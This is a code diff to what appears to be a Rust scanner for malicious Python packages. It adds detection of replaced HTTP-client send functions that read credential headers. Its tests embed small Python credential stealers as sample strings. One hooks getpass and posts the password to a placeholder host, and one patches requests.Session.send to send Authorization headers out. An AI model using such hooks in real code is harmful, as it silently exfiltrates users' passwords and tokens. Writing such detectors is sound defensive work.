@@ -30,6 +30,26 @@ static KEY_MATERIAL: LazyLock<Regex> = crate::static_regex!(
     r"(?i)(keypair|private_?key|secret_?key|from_?key|from_?seed|seed|mnemonic|wallet|passphrase|getpass|password|from_bytes|from_base58|from_json|account\.(create|from|sign|encrypt|decrypt|privatekey)|sign_transaction|signer|bip(32|39|44)|wif)"
 );
 
+/// An HTTP client's sending function (`requests.Session.send`, `httpx.Client.send`,
+/// `urllib.request.urlopen`): tracing libraries wrap these, and so do header stealers.
+static HTTP_CLIENT_SEND: LazyLock<Regex> = crate::static_regex!(
+    r"(?i)^(requests(\.sessions)?\.Session\.(send|request)|requests\.(api\.)?request|httpx\.(Client|AsyncClient)\.(send|request)|urllib\.request\.(urlopen|OpenerDirector\.open)|http\.client\.HTTPS?Connection\.(request|putheader)|aiohttp\.ClientSession\._request)$"
+);
+
+/// The credentials a request carries, as a replacement reads them from it.
+static CREDENTIAL_HEADER: LazyLock<Regex> = crate::static_regex!(
+    r#"(?i)["'](authorization|proxy-authorization|cookie|x-api-key|x-auth-token)["']"#
+);
+
+/// What a replaced function handles.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Handles {
+    /// Keys, seeds or passwords ([`KEY_MATERIAL`]).
+    KeyMaterial,
+    /// Every request an HTTP client sends ([`HTTP_CLIENT_SEND`]), and the credentials in it.
+    Requests,
+}
+
 /// A replacement noted while walking, judged once the module's findings are in.
 #[derive(Debug, Clone)]
 pub struct PendingPatch {
@@ -41,6 +61,8 @@ pub struct PendingPatch {
     pub range: TextRange,
     /// When the replacement is made.
     pub context: ExecContext,
+    /// What the replaced function handles.
+    pub handles: Handles,
 }
 
 /// The module function a replacement value stands for: `f`, `staticmethod(f)`,
@@ -65,8 +87,8 @@ fn replacement_function(checker: &Checker, value: &Expr) -> Option<String> {
 }
 
 /// The resolved name of `owner.attribute` when `owner` is something imported (not one of the
-/// module's own classes) and the name is about key material.
-fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<String> {
+/// module's own classes) and the name is about key material or sends HTTP requests.
+fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<(String, Handles)> {
     let mut root = owner;
     while let Expr::Attribute(inner) = root {
         root = &inner.value;
@@ -77,7 +99,13 @@ fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<S
     checker.scopes.alias(root.id.as_str())?;
     let owner = checker.qualname(owner)?;
     let target = format!("{owner}.{attribute}");
-    KEY_MATERIAL.is_match(&target).then_some(target)
+    if HTTP_CLIENT_SEND.is_match(&target) {
+        Some((target, Handles::Requests))
+    } else if KEY_MATERIAL.is_match(&target) {
+        Some((target, Handles::KeyMaterial))
+    } else {
+        None
+    }
 }
 
 /// `Keypair.from_bytes = staticmethod(_patched)`: notes the replacement for
@@ -103,7 +131,7 @@ fn note_replacement(
     value: &Expr,
     range: TextRange,
 ) {
-    let Some(target) = hijacked_target(checker, owner, attribute) else {
+    let Some((target, handles)) = hijacked_target(checker, owner, attribute) else {
         return;
     };
     let Some(function) = replacement_function(checker, value) else {
@@ -115,6 +143,7 @@ fn note_replacement(
         function,
         range,
         context,
+        handles,
     });
 }
 
@@ -133,12 +162,20 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 }
 
 /// After the walk: each noted replacement whose function sends or fetches (a WH130 finding
-/// inside it) is reported where the replacement is made.
+/// inside it) is reported where the replacement is made. A replaced HTTP client must also
+/// read a request's credentials: tracers send timings, stealers send the headers.
 pub fn check_pending(checker: &mut Checker) {
     for patch in checker.take_patches() {
         let Some(def_line) = checker.module_function_line(&patch.function) else {
             continue;
         };
+        if patch.handles == Handles::Requests
+            && !checker
+                .module_function_text(&patch.function)
+                .is_some_and(|text| CREDENTIAL_HEADER.is_match(text))
+        {
+            continue;
+        }
         let Some(send) = checker
             .findings
             .iter()
@@ -156,11 +193,14 @@ pub fn check_pending(checker: &mut Checker) {
             &RULE,
             patch.range,
             format!(
-                "replaces {} with {}, which {}: every key or password the library handles {}",
+                "replaces {} with {}, which {}: every {} goes out with it",
                 patch.target,
                 patch.function,
                 crate::text::shorten(&send, 140),
-                "goes out with it"
+                match patch.handles {
+                    Handles::KeyMaterial => "key or password the library handles",
+                    Handles::Requests => "credential header the client sends",
+                }
             ),
             severity,
             vec!["api-hijack"],
@@ -184,6 +224,8 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", &setattr, "WH260") >= 0.9);
         let getpass = "import getpass, urllib.request\n_real = getpass.getpass\ndef _grab(prompt='Password: '):\n    p = _real(prompt)\n    urllib.request.urlopen('https://x.invalid/p', data=p.encode())\n    return p\ngetpass.getpass = _grab\n";
         assert!(max_severity("p/pkg/__init__.py", getpass, "WH260") >= 0.9);
+        let headers = "import requests\n_orig = requests.Session.send\ndef _send(self, request, **kw):\n    auth = request.headers.get('Authorization')\n    if auth:\n        requests.post('https://x.invalid/h', data={'u': request.url, 'a': auth})\n    return _orig(self, request, **kw)\nrequests.Session.send = _send\n";
+        assert!(max_severity("p/pkg/__init__.py", headers, "WH260") >= 0.9);
     }
 
     #[test]
@@ -191,6 +233,9 @@ mod tests {
         // Tracing libraries wrap HTTP clients, whose original sends.
         let tracing = "import requests\n_send = requests.Session.send\ndef _traced(self, request, **kw):\n    return _send(self, request, **kw)\nrequests.Session.send = _traced\n";
         assert!(max_severity("p/pkg/__init__.py", tracing, "WH260") < 0.1);
+        // A tracer reporting spans, with no credential read.
+        let spans = "import requests\n_send = requests.Session.send\ndef _traced(self, request, **kw):\n    r = _send(self, request, **kw)\n    requests.post('https://collector.example/spans', json={'url': request.url})\n    return r\nrequests.Session.send = _traced\n";
+        assert!(max_severity("p/pkg/__init__.py", spans, "WH260") < 0.1);
         // A key patch that sends nothing (a compatibility shim).
         let shim = "from solders.keypair import Keypair\ndef _from_bytes(raw):\n    return Keypair.from_seed(bytes(raw)[:32])\nKeypair.from_bytes = staticmethod(_from_bytes)\n";
         assert!(max_severity("p/pkg/__init__.py", shim, "WH260") < 0.1);
